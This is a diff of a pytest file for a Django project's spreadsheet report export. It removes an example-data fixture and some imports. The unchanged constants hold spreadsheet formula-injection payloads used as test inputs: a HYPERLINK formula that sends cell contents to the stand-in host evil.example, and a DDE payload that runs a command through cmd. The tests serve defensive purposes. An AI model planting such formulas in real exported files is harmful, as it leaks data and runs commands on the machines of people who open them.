@@ -8,11 +8,9 @@ import zipfile
 from datetime import date
 
 import pytest
-from django.core.management import call_command
-from django.db import transaction
 from openpyxl import load_workbook
 
-from goldthread.council.models import Council, Role, User
+from goldthread.council.models import Role, User
 from goldthread.performance.models import Measure
 from goldthread.reports.documents import render
 from goldthread.reports.models import ReportType
@@ -21,19 +19,6 @@ from goldthread.risk.models import Risk
 
 MEASURE_TITLE = '=HYPERLINK("http://evil.example/?"&A1,"Click for details")'
 RISK_TITLE = "@SUM(1+1)*cmd|' /C calc'!A0"
-
-
-@pytest.fixture(scope="module")
-def example(django_db_setup, django_db_blocker):
-    with django_db_blocker.unblock():
-        outer = transaction.atomic()
-        outer.__enter__()
-        try:
-            call_command("load_example", stdout=io.StringIO())
-            yield Council.objects.get()
-        finally:
-            transaction.set_rollback(True)
-            outer.__exit__(None, None, None)
 
 
 @pytest.fixture
